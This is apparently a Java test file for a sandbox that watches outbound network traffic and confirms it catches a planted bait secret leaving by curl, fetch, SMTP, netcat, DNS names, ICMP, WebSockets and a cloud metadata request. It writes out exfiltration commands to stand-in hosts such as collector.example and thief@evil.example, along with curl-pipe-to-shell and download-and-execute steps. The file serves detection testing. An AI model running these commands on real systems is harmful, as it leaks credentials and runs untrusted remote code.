package io.mcpsf.boundary;

import static org.assertj.core.api.Assertions.assertThat;

import io.mcpsf.model.NetworkObservation.FlowOpened;
import io.mcpsf.model.NetworkObservation.MailSent;
import io.mcpsf.model.NetworkObservation.PacketSent;
import io.mcpsf.model.NetworkObservation.RequestSent;
import io.mcpsf.model.NetworkObservation.StageServed;
import io.mcpsf.model.NetworkObservation.TlsFailed;
import io.mcpsf.model.NetworkObservation.TlsOpened;
import io.mcpsf.model.SocketObservation.BaitLeft;
import io.mcpsf.model.SocketObservation.DnsAsked;
import io.mcpsf.os.Command;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.Inet4Address;
import java.net.NetworkInterface;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.HexFormat;

/** What real clients do to the boundary, and what it tells of them. */
@Tag("chamber")
@EnabledIf("io.mcpsf.boundary.Needs#root")
class BoundaryTest {

    private static final String HEX =
            HexFormat.of().formatHex(Inside.SECRET.getBytes(StandardCharsets.US_ASCII));

    @TempDir static Path folder;
    private static Inside inside;

    @BeforeAll
    static void open() throws IOException, InterruptedException {
        inside = new Inside(folder, BoundarySpec.Options.plain());
    }

    @AfterAll
    static void close() {
        inside.close();
    }

    @Test
    void curlOverTlsIsSeenInClearWithItsBait() throws InterruptedException {
        String said =
                good(
                        "curl",
                        "-sS",
                        "-m",
                        "20",
                        "-d",
                        "t=" + Inside.SECRET,
                        "https://collector.example/up?x=1");

        assertThat(said).contains("\"ok\":true");
        RequestSent sent = request("https://collector.example/up?x=1");
        assertThat(sent.method()).isEqualTo("POST");
        assertThat(sent.tls()).isTrue();
        assertThat(sent.body()).isEqualTo("t=" + Inside.SECRET);
        assertThat(bait("http", "collector.example:443").encoding()).isEqualTo("plain");
        inside.await(DnsAsked.class, d -> d.name().equals("collector.example"));
        inside.await(FlowOpened.class, f -> f.name().equals("collector.example"));
        assertThat(
                        inside.await(TlsOpened.class, t -> t.name().equals("collector.example"))
                                .fingerprint())
                .startsWith("t13d");
    }

    @Test
    @EnabledIf("io.mcpsf.boundary.Needs#node")
    void nodeFetchIsSeenInClear() throws InterruptedException {
        String said =
                good(
                        "node",
                        "-e",
                        "fetch('https://api.telegram.org/bot1:x/sendMessage', {method:'POST',"
                                + " headers:{'content-type':'application/json'},"
                                + " body: JSON.stringify({text: Buffer.from('"
                                + Inside.SECRET
                                + "').toString('base64')})}).then(r => r.json())"
                                + ".then(j => console.log(j.ok))");

        assertThat(said).isEqualTo("true\n");
        assertThat(request("https://api.telegram.org/bot1:x/sendMessage").method())
                .isEqualTo("POST");
        assertThat(bait("http", "api.telegram.org:443").encoding()).isEqualTo("base64");
    }

    @Test
    void pythonSendsGzipAndWeReadIt() throws InterruptedException {
        good(
                "python3",
                "-c",
                "import gzip,urllib.request as u\n"
                        + "d=gzip.compress(b'k="
                        + Inside.SECRET
                        + "')\n"
                        + "u.urlopen(u.Request('https://py.example/z',data=d,"
                        + "headers={'Content-Encoding':'gzip'})).read()");

        assertThat(request("https://py.example/z").body()).isEqualTo("k=" + Inside.SECRET);
        bait("http", "py.example:443");
    }

    @Test
    void chunkedUploadsOnOddPortsAreRead() throws InterruptedException {
        good(
                "sh",
                "-c",
                "yes data | head -c 100000 | curl -sS -m 20 -T - http://odd.example:8099/f");

        RequestSent sent = request("http://odd.example:8099/f");
        assertThat(sent.bodyBytes()).isEqualTo(100_000);
        assertThat(sent.body()).startsWith("data\ndata").hasSize(16 << 10);
    }

    @Test
    void whatGoesThroughTheProxyIsSeenInClear() throws InterruptedException {
        good(
                "curl",
                "-sS",
                "-m",
                "20",
                "-x",
                "http://proxy.example:3128",
                "https://deep.example/p");

        assertThat(request("https://deep.example/p").tls()).isTrue();
        assertThat(
                        inside.await(RequestSent.class, r -> r.url().equals("deep.example:443"))
                                .method())
                .isEqualTo("CONNECT");
    }

    @Test
    void secondVersionOfHttpIsReadWithAndWithoutTls() throws InterruptedException {
        good(
                "curl",
                "-sS",
                "-m",
                "20",
                "--http2-prior-knowledge",
                "-d",
                "x=" + Inside.SECRET,
                "http://two.example/a?b=c");

        RequestSent sent = request("http://two.example/a?b=c");
        assertThat(sent.protocol()).isEqualTo("HTTP/2");
        assertThat(sent.headers()).contains("user-agent: curl/");
        assertThat(sent.body()).isEqualTo("x=" + Inside.SECRET);
        bait("http", "two.example:80");
    }

    @Test
    @EnabledIf("io.mcpsf.boundary.Needs#node")
    void aClientThatInsistsOnTheSecondVersionGetsIt() throws InterruptedException {
        String said =
                good(
                        "node",
                        "-e",
                        "const c = require('http2').connect('https://only2.example');"
                                + "const r = c.request({':path': '/h2', ':method': 'POST'});"
                                + "r.on('response', h => console.log(h[':status']));"
                                + "r.on('end', () => c.close()); r.resume(); r.end('hello')");

        assertThat(said).isEqualTo("200\n");
        assertThat(request("https://only2.example/h2").body()).isEqualTo("hello");
        assertThat(inside.await(TlsOpened.class, t -> t.name().equals("only2.example")).protocol())
                .isEqualTo("h2");
    }

    @Test
    void webSocketsAreReadFrameByFrame() throws InterruptedException {
        good(
                "python3",
                "-c",
                "import socket,os,ssl\n"
                        + "s=ssl.create_default_context().wrap_socket(socket.create_connection("
                        + "('ws.example',443)),server_hostname='ws.example')\n"
                        + "s.send(b'GET /chat HTTP/1.1\\r\\nHost: ws.example\\r\\n"
                        + "Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
                        + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n')\n"
                        + "assert b's3pPLMBiTxaQ9kYGzzhZRbK+xOo=' in s.recv(1000)\n"
                        + "m=os.urandom(4);p=b'"
                        + Inside.SECRET
                        + "'\n"
                        + "s.send(bytes([0x81,0x80|len(p)])+m+bytes(b^m[i%4] for i,b in"
                        + " enumerate(p)))\n"
                        + "s.send(bytes([0x88,0x80])+m);s.recv(10)");

        assertThat(inside.await(PacketSent.class, p -> p.protocol().equals("websocket")).excerpt())
                .isEqualTo(Inside.SECRET);
        bait("websocket", "ws.example:443");
    }

    @Test
    void mailIsTakenWithItsHiddenRecipients() throws InterruptedException {
        good(
                "python3",
                "-c",
                "import smtplib\n"
                        + "s=smtplib.SMTP('mail.example.com',587,timeout=20)\n"
                        + "s.starttls()\n"
                        + "s.login('me','"
                        + Inside.SECRET
                        + "')\n"
                        + "s.sendmail('me@example.com',['you@example.com','thief@evil.example'],"
                        + "'Subject: hi\\n\\nkey "
                        + Inside.SECRET
                        + "')\n"
                        + "s.quit()");

        MailSent mail = inside.await(MailSent.class, m -> m.from().equals("me@example.com"));
        assertThat(mail.to()).containsExactly("you@example.com", "thief@evil.example");
        assertThat(mail.body()).contains("Subject: hi");
        bait("smtp", "mail.example.com:587");
    }

    @Test
    void bareConnectionsToAnyAddressAreHeard() throws InterruptedException {
        inside.run("sh", "-c", "echo 'JOIN " + Inside.SECRET + "' | nc -w 2 203.0.113.77 4444");
        inside.run("sh", "-c", "echo six | nc -w 2 2001:db8::5 9999");

        assertThat(inside.await(PacketSent.class, p -> p.port() == 4444).excerpt())
                .startsWith("JOIN ");
        bait("tcp", "203.0.113.77:4444");
        assertThat(inside.await(PacketSent.class, p -> p.port() == 9999).address())
                .isEqualTo("2001:db8:0:0:0:0:0:5");
    }

    @Test
    void datagramsAndEchoesAreHeard() throws InterruptedException {
        inside.run("sh", "-c", "echo " + Inside.SECRET + " | nc -u -w 1 198.51.100.7 4445");
        good("ping", "-c", "1", "-W", "3", "-p", HEX.substring(0, 32), "198.51.100.8");
        inside.run(
                "python3",
                "-c",
                "import socket\n"
                        + "s=socket.socket(socket.AF_INET,socket.SOCK_RAW,253)\n"
                        + "s.sendto(b'"
                        + Inside.SECRET
                        + "',('198.51.100.9',0))");

        bait("udp", "198.51.100.7:4445");
        assertThat(inside.await(PacketSent.class, p -> p.protocol().equals("icmp")).excerpt())
                .contains(Inside.SECRET.substring(0, 16));
        bait("raw", "198.51.100.9:0");
    }

    @Test
    void aSecretSplitOverNamesIsPutTogether() throws InterruptedException {
        for (int i = 0; i < HEX.length(); i += 10) {
            inside.run("getent", "ahostsv4", HEX.substring(i, i + 10) + ".drip.example");
        }

        assertThat(bait("dns", "drip.example").encoding()).isEqualTo("hex");
    }

    @Test
    void aSecretSplitOverRequestsIsPutTogether() throws InterruptedException {
        for (int i = 0; i < Inside.SECRET.length(); i += 5) {
            good(
                    "curl",
                    "-sS",
                    "-m",
                    "20",
                    "http://slow.example/p?n=" + i + "&d=" + Inside.SECRET.substring(i, i + 5));
        }

        bait("http", "slow.example:80");
    }

    @Test
    void namesAreAnsweredFromWhateverResolverIsAsked() throws InterruptedException {
        String four = good("dig", "+short", "@8.8.8.8", "github.com").strip();
        String again = good("dig", "+short", "+tcp", "@1.1.1.1", "github.com").strip();
        String back = good("dig", "+short", "-x", four).strip();
        String six = good("dig", "+short", "@2001:4860:4860::8888", "AAAA", "github.com");
        String mail = good("dig", "+short", "MX", "github.com");
        String none = good("dig", "kqzvxjwqpfhg.com");

        assertThat(four).matches("[0-9.]+").isEqualTo(again);
        assertThat(back).isEqualTo("github.com.");
        assertThat(six).contains(":");
        assertThat(mail).contains("10 mail.github.com.");
        assertThat(none).contains("NXDOMAIN");
        assertThat(inside.await(DnsAsked.class, d -> d.resolver().equals("8.8.8.8")).name())
                .isEqualTo("github.com");
    }

    @Test
    void theMetadataServiceGivesBaitAway() throws InterruptedException {
        String said =
                good(
                        "curl",
                        "-sS",
                        "-m",
                        "20",
                        "http://169.254.169.254/latest/meta-data/iam/security-credentials/web");

        assertThat(said).contains("\"AccessKeyId\":\"" + Inside.SECRET + "\"");
        request("http://169.254.169.254/latest/meta-data/iam/security-credentials/web");
    }

    @Test
    void anUnknownProgramIsAHarmlessOneWithATag() throws InterruptedException {
        String said = good("sh", "-c", "curl -fsSL http://stage.example/install.sh | sh -x 2>&1");

        StageServed stage =
                inside.await(
                        StageServed.class, s -> s.url().equals("http://stage.example/install.sh"));
        assertThat(said).contains("/usr/bin/env true " + stage.tag());
        assertThat(
                        good(
                                "sh",
                                "-c",
                                "f=$(mktemp) && curl -fsS http://stage.example/x.elf > $f &&"
                                        + " chmod +x $f && $f; echo $?; rm $f"))
                .isEqualTo("0\n");
    }

    @Test
    void aClientThatPinsIsKnown() throws InterruptedException, IOException {
        // As it is outside, without the authority of this run.
        Path own =
                Files.copy(
                        Path.of("/etc/ssl/certs/ca-certificates.crt"),
                        inside.folder.resolve("pinned.pem"));
        Command.Result said =
                inside.run(
                        "curl",
                        "--cacert",
                        own.toString(),
                        "-sS",
                        "-m",
                        "20",
                        "https://pinned.example/");

        assertThat(said.good()).isFalse();
        assertThat(inside.await(TlsFailed.class, t -> t.name().equals("pinned.example")).why())
                .startsWith("pinned:");
    }

    @Test
    void theHostItselfIsAPlaceLikeAnyOther() throws Exception {
        for (var device : Collections.list(NetworkInterface.getNetworkInterfaces())) {
            for (var address : Collections.list(device.getInetAddresses())) {
                if (address instanceof Inet4Address && !address.isLoopbackAddress()) {
                    String own = address.getHostAddress();
                    assertThat(good("curl", "-sS", "-m", "20", "http://" + own + ":22/"))
                            .contains("<!doctype html>", "</body></html>");
                    request("http://" + own + ":22/");
                }
            }
        }
    }

    private static String good(String... argv) throws InterruptedException {
        Command.Result said = inside.run(argv);
        assertThat(said.stderr()).isEmpty();
        assertThat(said.code()).isZero();
        return said.stdout();
    }

    private static RequestSent request(String url) throws InterruptedException {
        return inside.await(RequestSent.class, r -> r.url().equals(url));
    }

    private static BaitLeft bait(String where, String destination) throws InterruptedException {
        return inside.await(
                BaitLeft.class,
                b -> b.where().equals(where) && b.destination().equals(destination));
    }
}
